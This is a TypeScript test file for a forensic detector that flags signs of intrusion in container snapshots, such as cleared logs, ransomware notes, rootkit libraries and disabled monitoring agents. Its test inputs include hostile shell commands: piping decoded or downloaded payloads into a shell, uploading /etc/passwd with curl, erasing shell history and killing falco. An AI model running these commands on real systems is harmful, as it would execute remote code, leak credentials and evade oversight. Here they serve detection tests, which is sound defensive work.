import { descriptorOf, fileOf, processOf } from '@icecore/snapshot/test-support';
import { examinedFile, inMemory, mapped, type Scene, seen, started } from '../examination.test-support.ts';
import { answers } from './answers.test-support.ts';
import { changedProgram } from './changed-program.ts';
import { clearedLog } from './cleared-log.ts';
import { deletedOpenFile } from './deleted-open-file.ts';
import { disabledAgent } from './disabled-agent.ts';
import { encodedCommand } from './encoded-command.ts';
import { exfiltration } from './exfiltration.ts';
import { hiddenFile } from './hidden-file.ts';
import { historyTampering } from './history-tampering.ts';
import { imageDrift } from './image-drift.ts';
import { kernelModule } from './kernel-module.ts';
import { partialCapture } from './partial-capture.ts';
import { ransomware } from './ransomware.ts';
import { refusedCapture, refusals } from './refused-capture.ts';
import { sensitiveWatch } from './sensitive-watch.ts';
import { tracedProcess } from './traced-process.ts';
import { stagedArchive } from './staged-archive.ts';

const elf = Buffer.from(`\x7fELF${'\0'.repeat(60)}`, 'latin1');
const noise = Buffer.from(Array.from({ length: 4096 }, (_each, at) => (at * 167 + (at >> 8) * 31) & 255));
const file = (...parts: Parameters<typeof examinedFile>): Scene => ({ files: [examinedFile(...parts)] });
const typed = (command: string): Scene => ({ hits: [{ kind: 'history', pid: 5, command, enteredAt: undefined, place: inMemory(5, 0x5000n) }] });
const runs = (...words: string[]): Scene => ({ processes: [started(5, '/bin/sh', words)] });
const library = (path: string): Scene => ({ processes: [started(5, '/usr/sbin/apache2', ['apache2'], mapped([{ start: 0x7f00_0000_0000n, pages: 4, permissions: 'r-xp', path }]))] });

answers(deletedOpenFile, [
  ['a program', { processes: [processOf(5)], ...file('/opt/x', elf, { origin: 'deleted', pids: [5] }) }, ['5 medium']],
  ['a log', { processes: [processOf(5)], ...file('/var/log/auth.log', 'x\n', { origin: 'deleted', pids: [5] }) }, ['5 medium']],
  ['with less confidence a file that means nothing', { processes: [processOf(5)], ...file('/tmp/x', 'x\n', { origin: 'deleted', pids: [5] }) }, ['5 low']],
  ['with less confidence a library that another took the place of', { processes: [processOf(5)], files: [examinedFile('/usr/lib/libx.so.1', elf, { origin: 'deleted', pids: [5] }), examinedFile('/usr/lib/libx.so.1', elf)] }, ['5 low']],
  ['a file that is there', file('/opt/x', elf), []],
  ['a program that runs, which is told elsewhere', { processes: [started(5, '/opt/x', ['x'], { executable: fileOf('/opt/x', { deleted: true }) })], ...file('/opt/x', elf, { origin: 'deleted', pids: [5] }) }, []],
]);

answers(changedProgram, [
  ['a program in a system folder', file('/usr/bin/ls', elf), ['- medium']],
  ['with less confidence one of an operator', file('/usr/local/bin/app', elf), ['- low']],
  ['a link to a program where anybody writes', file('/usr/bin/ps', '', { type: 'symlink', linkTarget: '/tmp/.p' }), ['- high']],
  ['a link of an alternative', file('/usr/bin/vi', '', { type: 'symlink', linkTarget: '/etc/alternatives/vi' }), []],
  ['compiled Python', file('/usr/lib/python3/__pycache__/a.pyc', elf), []],
  ['data in a system folder', file('/usr/lib/app/data', 'x\n'), []],
  ['a program elsewhere', file('/opt/app', elf), []],
]);

answers(encodedCommand, [
  ['a payload that is decoded', runs('sh', '-c', 'echo aWQ= | base64 -d | sh'), ['5 high']],
  ['one that was typed', typed('curl x | openssl enc -aes-256-cbc -d -k p | bash'), ['5 high']],
  ['a packed program', file('/opt/x', Buffer.concat([elf, Buffer.from('UPX!')])), ['- medium']],
  ['settings that are decoded into a file', runs('sh', '-c', 'openssl enc -d -in conf.enc -out /app/conf'), []],
  ['a file that is decoded', runs('sh', '-c', 'base64 -d /run/config > /app/conf'), []],
]);

const shell = (...values: string[]): Scene => ({ processes: [processOf(1), started(5, '/bin/bash', ['bash'], { environment: { state: 'captured', values } })] });

answers(historyTampering, [
  ['a shell without a file', shell('HISTFILE=/dev/null'), ['5 high']],
  ['a command that forgets', typed('unset HISTFILE'), ['5 high']],
  ['a link to nothing', file('/root/.bash_history', '', { type: 'symlink', linkTarget: '/dev/null' }), ['- high']],
  ['a history that was deleted', file('/root/.bash_history', '', { change: 'deleted' }), ['- high']],
  ['a shell with another file', shell('HISTFILE=/root/.history', 'HISTSIZE=1000'), []],
  ['a history that is written', file('/root/.bash_history', 'ls\n'), []],
]);

answers(disabledAgent, [
  ['a watcher whose files are gone', file('/opt/falco/falco', '', { change: 'deleted' }), ['- medium']],
  ['one that was killed', typed('pkill -9 falco'), ['5 high']],
  ['its documents', file('/usr/share/doc/falco/README', '', { change: 'deleted' }), []],
  ['another process that was killed', typed('pkill nginx'), []],
]);

answers(clearedLog, [
  ['a log of logins that was deleted', file('/var/log/auth.log', '', { change: 'deleted' }), ['- high']],
  ['another log that was deleted', file('/var/log/app.log', '', { change: 'deleted' }), ['- medium']],
  ['one that was emptied under its writer', { processes: [started(5, '/opt/app', ['app'], { descriptors: [descriptorOf(3, '/var/log/syslog', { position: 100n })] })], ...file('/var/log/syslog', '') }, ['- high']],
  ['a log that was turned over', { files: [examinedFile('/var/log/app.log', '', { change: 'deleted' }), examinedFile('/var/log/app.log.1', 'x\n')] }, []],
  ['a log of the package manager', file('/var/log/dpkg.log', '', { change: 'deleted' }), []],
  ['a log that is written', file('/var/log/syslog', 'x\n'), []],
]);

answers(ransomware, [
  ['a demand', file('/data/HOW_TO_DECRYPT_FILES.txt', 'Your files have been encrypted. Pay bitcoin.\n'), ['- high']],
  ['many files of one odd ending', { files: Array.from({ length: 20 }, (_each, at) => examinedFile(`/data/${at}.locked`, noise)) }, ['- high']],
  ['with less confidence a name alone', file('/app/RESTORE_INSTRUCTIONS.txt', 'run pg_restore\n'), ['- low']],
  ['many documents with an ending that nobody knows', { files: Array.from({ length: 20 }, (_each, at) => examinedFile(`/data/${at}.docx.k7x2`, noise)) }, ['- high']],
  ['many documents that were packed', { files: Array.from({ length: 20 }, (_each, at) => examinedFile(`/data/${at}.sql.gz`, noise)) }, []],
  ['few encrypted files', file('/data/a.enc', noise), []],
  ['many short settings that are encrypted', { files: Array.from({ length: 20 }, (_each, at) => examinedFile(`/app/${at}.yml.enc`, 'short')) }, []],
]);

answers(hiddenFile, [
  ['a program in memory', file('/dev/shm/.x', elf), ['- high']],
  ['a folder of spaces and dots', file('/tmp/..  ', '', { type: 'directory' }), ['- high']],
  ['a program behind the sockets of a display', file('/tmp/.X11-unix/.rsync/run', elf), ['- high']],
  ['a program in a settings folder in memory', file('/dev/shm/.config/x', elf), ['- high']],
  ['a cache', file('/root/.cache/pip/x', 'x\n'), []],
  ['the socket of a display', file('/tmp/.X11-unix', '', { type: 'directory' }), []],
  ['a setting', file('/root/.bashrc', 'x\n'), []],
]);

answers(sensitiveWatch, [
  ['keys of the node', { processes: [started(5, '/opt/x', ['x'], { descriptors: [descriptorOf(3, '/dev/input/event0')] })] }, ['5 high']],
  ['a watch on passwords', { processes: [started(5, '/opt/x', ['x'], { watches: [{ fd: 4, path: '/etc/shadow' }] })] }, ['5 medium']],
  ['a watch on its token', { processes: [started(5, '/opt/x', ['x'], { watches: [{ fd: 4, path: '/var/run/secrets/kubernetes.io/serviceaccount' }] })] }, []],
  ['a watch on its settings', { processes: [started(5, '/opt/x', ['x'], { watches: [{ fd: 4, path: '/etc/app' }] })] }, []],
]);

answers(stagedArchive, [
  ['an archive in a temporary folder', file('/tmp/a.tar.gz', '\x1f\x8b'), ['- medium']],
  ['one that is hidden', file('/dev/shm/.a', Buffer.from([0x50, 0x4b, 3, 4])), ['- high']],
  ['a packer at work', { processes: [started(5, '/bin/tar', ['tar', 'czf', '/tmp/a', '/etc'])] }, ['5 medium']],
  ['an archive of the application', file('/app/a.zip', 'PK'), []],
  ['a packer of the application', { processes: [started(5, '/bin/tar', ['tar', 'xf', '/app/a.tar'])] }, []],
]);

answers(exfiltration, [
  ['an upload', runs('curl', '-F', 'file=@/etc/passwd', 'http://192.0.2.1'), ['5 medium']],
  ['one that was typed', typed('rclone copy /data remote:x'), ['5 medium']],
  ['a download', runs('curl', '-fsSL', 'https://example.com/x'), []],
  ['a copy in the container', runs('cp', '/a', '/b'), []],
]);

answers(kernelModule, [
  ['a module', file('/opt/x.ko', elf), ['- medium']],
  ['a rootkit that is mapped', library('/usr/local/lib/libprocesshider.so'), ['5 high']],
  ['a module that was loaded', typed('insmod /tmp/x.ko'), ['5 medium']],
  ['the library of PHP', library('/usr/lib/apache2/modules/libphp.so'), []],
  ['a library of telephone numbers', file('/app/libphonenumber.so', elf), []],
]);

const failed = (line: string): Scene => ({ dumpLog: `${line}\nError (criu/cr-dump.c:2093): Dumping FAILED.\n` });

answers(refusedCapture, [
  ['a program that handles its page faults', failed("Error (criu/files-ext.c:96): Can't dump file 3 of that type [600] (anon anon_inode:[userfaultfd])"), ['- high']],
  ['a lock on a file', failed('Error (criu/file-lock.c:124): Some file locks are hold by dumping tasks! You can try --file-locks to dump them.'), ['- high']],
  ['a failure that nobody knows', failed('Error (criu/x.c:1): something'), ['- high']],
  ['a dump that was made', { dumpLog: '(0.1) Dumping finished successfully\n' }, []],
  ['each reason that the log gives', failed('Error (x): /memfd:secretmem\nError (criu/seize.c:335): zombie 3824 (comm sleep) found while seizing'), ['- high', '- high']],
  ['no log', {}, []],
]);

answers(tracedProcess, [
  ['a process whose tracer CRIU names', failed('Error (compel/src/lib/infect.c:1): Unseizable non-zombie 7 found, state t, err -1/0'), ['- high']],
  ['one that could not be seized, told once', failed('Error (criu/seize.c:335): zombie 3824 (comm sleep) found while seizing\nError (criu/seize.c:335): zombie 3824 (comm sleep) found while seizing'), ['- medium']],
  ['a zombie in a dump that was made', { dumpLog: '(0.1) zombie 3824 (comm sleep) found while seizing\n(0.2) Dumping finished successfully\n' }, []],
]);

describe('a refused capture', () => {
  it.each([
    ['ghost_file', "Error (criu/files-reg.c:1): Can't dump ghost file /tmp/x of 2097152 size, increase limit"],
    ['ptrace', 'Error (compel/src/lib/infect.c:1): Unseizable non-zombie 7 found, state t, err -1/0'],
    ['ptrace', 'Error (criu/seize.c:335): zombie 3824 (comm sleep) found while seizing'],
    ['io_uring', 'Error (compel/src/lib/infect-util.c:1): send_fds failed (-22)'],
    ['uffd', "Error (criu/files-ext.c:96): Can't dump file 3 of that type [600] (anon anon_inode:[userfaultfd])"],
    ['perf', "Error (criu/files-ext.c:96): Can't dump file 3 of that type [600] (anon anon_inode:[perf_event])"],
    ['bpf', "Error (criu/files-ext.c:96): Can't dump file 3 of that type [600] (anon anon_inode:bpf-prog)"],
    ['secretmem', "Error (criu/files-reg.c:1): Can't lookup mount=1 for fd=3 path=/secretmem"],
    ['uffd', "(0.1) Dumping path for -3 fd via self 5 [/app/opentracer.log]\nError (criu/files-ext.c:96): Can't dump file 3 of that type [600] (anon anon_inode:[userfaultfd])"],
  ])('says %s and what to do', (reason, line) => {
    const [first] = seen(refusedCapture, failed(line));
    expect(first?.facts).toEqual({ reason: `capture.refused.${reason}` });
    expect(first?.summary).toContain(refusals.find((each) => each.reason === reason)?.remedy ?? '');
  });
});

answers(partialCapture, [
  ['damage', { snapshot: { gaps: [{ code: 'truncated', subject: 'process 1', reason: 'it ends early', place: { image: 'core-1.img' } }] } }, ['- high']],
  ['a whole archive', {}, []],
]);

const digest = (letter: string): string => `sha256:${letter.repeat(64)}`;

answers(imageDrift, [
  ['another digest', { container: { image: `app@${digest('a')}`, imageRef: `app@${digest('b')}` } }, ['- medium']],
  ['the same digest', { container: { image: `app@${digest('a')}`, imageRef: `app@${digest('a')}` } }, []],
  ['an image that was asked for by its tag', { container: { image: 'app:1', imageRef: `app@${digest('b')}` } }, []],
]);
